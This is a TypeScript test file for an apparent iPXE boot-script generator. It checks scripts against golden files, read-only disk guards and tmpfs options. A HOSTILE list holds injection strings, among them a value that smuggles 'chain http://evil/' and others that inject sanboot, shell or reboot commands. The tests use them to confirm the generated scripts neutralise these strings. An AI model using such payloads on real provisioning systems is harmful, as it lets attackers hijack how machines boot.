import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { GUARD_ARGUMENTS } from '../../../src/domain/kernel-arguments.ts';
import { firstScript, gpxeScript } from '../../../src/pool/script/first-script.ts';
import { machineScript } from '../../../src/pool/script/machine-script.ts';
import { inputOf } from './script-input.ts';

const golden = (name: string): string => readFileSync(new URL(`golden/${name}`, import.meta.url), 'utf8');
const root = { file: 'root.sqfs' as const, sha256: 'ab'.repeat(32), sizeBytes: 48_000_000 };
const image = { name: 'compute-debian-13', version: 3, base: 'http://10.10.0.1/images', root };
const { root: _none, ...rootless } = { ...image, name: 'failsafe', version: 1 };
const compute = {
  ...{ kind: 'compute', image: 'compute-debian-13@3' },
  arguments: ['console=tty0', 'console=ttyS0,115200n8', `role=\${node.tags}`, `v=\${image.version}`, `who=\${node.name}@\${head.address}`],
};
const menu = { kind: 'menu', items: ['local-disk', 'mine'], default: 'mine', timeoutSeconds: 8, title: 'Rack 4' };
const items = [
  { profile: 'local-disk', title: 'Local disk' },
  { profile: 'mine', title: 'Mine' },
];

const SCRIPTS: readonly [file: string, script: string][] = [
  ['compute.ipxe', machineScript(inputOf(compute, { image, groupArguments: [`rack=\${group}`] }))],
  ['failsafe.ipxe', machineScript(inputOf({ kind: 'failsafe' }, { image: rootless, profileName: 'failsafe' }))],
  ['local-disk.ipxe', machineScript(inputOf({ kind: 'local-disk' }, { profileName: 'local-disk' }))],
  [
    'linux.ipxe',
    machineScript(inputOf({ kind: 'linux', kernel: 'suse/linux', initrd: ['suse/initrd', 'http://x/y'], arguments: ['a=b'] })),
  ],
  ['iso.ipxe', machineScript(inputOf({ kind: 'iso', iso: 'rescue.iso' }))],
  ['script.ipxe', machineScript(inputOf({ kind: 'script', script: 'http://bang/other.ipxe' }))],
  ['menu.ipxe', machineScript(inputOf(menu, { items }))],
  ['hold.ipxe', machineScript(inputOf({ kind: 'hold' }, { because: '6 scripts in 15 minutes, and it did not come up after any of them' }))],
  ['recon.ipxe', machineScript(inputOf({ kind: 'recon' }, { reconUrl: 'http://bang/install/recon/recon.ipxe' }))],
  ['no-image.ipxe', machineScript(inputOf(compute))],
  ['unfit.ipxe', machineScript(inputOf(compute, { image, unfit: 'it has 128 MiB of RAM, and compute-debian-13@3 needs 192 MiB' }))],
  ['first.ipxe', firstScript('http://10.10.0.1')],
  ['first.gpxe', gpxeScript('http://10.10.0.1/install/loader/undionly.kpxe')],
];

for (const [file, script] of SCRIPTS) test(`the script ${file}`, () => assert.equal(script, golden(file)));

test('disks stay read-only by the product, unless the profile says that they may be used', () => {
  const words = (disks: object): string[] => machineScript(inputOf({ ...compute, ...disks }, { image })).split(/\s+/);
  for (const guard of GUARD_ARGUMENTS) {
    assert.ok(words({}).includes(guard), guard);
    assert.ok(!words({ disks: 'usable' }).includes(guard), guard);
  }
});

test('a tmpfs lies over all memory nodes, unless the profile says otherwise', () => {
  const unpacked = { ...image, root: { ...root, file: 'root.tar.zst' as const } };
  assert.match(machineScript(inputOf({ ...compute, root: 'tmpfs' }, { image: unpacked })), / recon\.mode=tmpfs recon\.numa=interleave /);
  // what there is decides: an image without a squashfs is unpacked
  assert.match(machineScript(inputOf(compute, { image: unpacked })), /root\.tar\.zst .*recon\.mode=tmpfs recon\.numa=interleave /);
  assert.match(machineScript(inputOf({ ...compute, root: 'tmpfs' }, { image })), /root\.sqfs .*recon\.mode=squashfs recon\.image/);
  assert.match(
    machineScript(inputOf({ ...compute, root: 'tmpfs', numa: 'local', sizePercent: 80 }, { image: unpacked })),
    / recon\.percent=80 recon\.numa=local /,
  );
});

test('a script never reboots a machine, and hold boots nothing by itself', () => {
  for (const [file, script] of SCRIPTS) assert.doesNotMatch(script, /^\s*(reboot|poweroff)|&& (reboot|poweroff)/m, file);
  const hold = golden('hold.ipxe');
  assert.doesNotMatch(hold, /^(boot|sanboot|exit|kernel)/m);
});

const HOSTILE = [
  'x\nsanboot --drive 0x80',
  'a && shell',
  'b || reboot',
  'c ; config',
  '# nothing',
  `\${net0/mac}`,
  'd\r\nexit',
  'ü\u0000\u001b[2J',
  '$',
  "'; chain http://evil/ #",
];
for (const evil of HOSTILE) {
  test(`words that are no command: ${JSON.stringify(evil)}`, () => {
    const wild = { title: evil, machine: evil, because: evil };
    const plain = { machine: 'm', because: 'b' };
    for (const profile of [{ kind: 'hold' }, { ...menu, title: evil.slice(0, 60) }, { kind: 'local-disk' }]) {
      const script = (words: typeof plain, title: string): string[] =>
        machineScript(inputOf(profile, { ...words, items: [{ profile: 'mine', title }] })).split('\n');
      const [bad, good] = [script(wild, evil), script(plain, 'good')];
      assert.equal(bad.length, good.length);
      for (const [index, line] of bad.entries()) {
        const isWords = /^(echo|item|menu) /.test(good[index] ?? '');
        if (!isWords) assert.equal(line, good[index]);
        else assert.doesNotMatch(line, /[\r\x00-\x1f;#$"'\\]|&|\|/, line);
      }
    }
  });
}
